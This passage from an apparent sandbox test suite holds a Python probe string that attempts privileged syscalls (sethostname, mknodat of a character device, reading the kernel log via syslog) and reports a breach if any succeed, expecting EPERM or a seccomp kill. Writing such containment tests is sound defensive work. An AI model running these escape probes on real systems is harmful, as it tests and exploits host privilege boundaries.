       'folder (259), syslog READ_ALL of the kernel log (103).',
       '''

def _pb_attack():
    _pb_silence()
    ctypes, libc = _pb_libc()
    name = _pb_os.uname().nodename.encode()
    r, _ = _pb_syscall(170, ctypes.c_char_p(name), len(name))   # sethostname(same name)
    if r == 0:
        _pb_breach('sethostname allowed')
    dev = _pb_os.path.join(_PB_DIR, 'probe_b_esc08_null')
    r, _ = _pb_syscall(259, -100, ctypes.c_char_p(dev.encode()), 0o020000 | 0o600, (1 << 8) | 3)
    if r == 0:
        _pb_quiet(_pb_os.unlink, dev)
        _pb_breach('mknod of a character device allowed')
    buf = ctypes.create_string_buffer(4096)
    r, _ = _pb_syscall(103, 3, buf, 4096)                         # syslog(SYSLOG_ACTION_READ_ALL)
    if r > 0:
        _pb_breach('read the kernel log')


_pb_quiet(_pb_attack)
''',
       'the worker has no capability left, so these fail with EPERM (ok) unless seccomp kills them '
       '(identity changes: sandbox). ' + UID + '; ' + SECCOMP + '; ' + BREACH + '.')
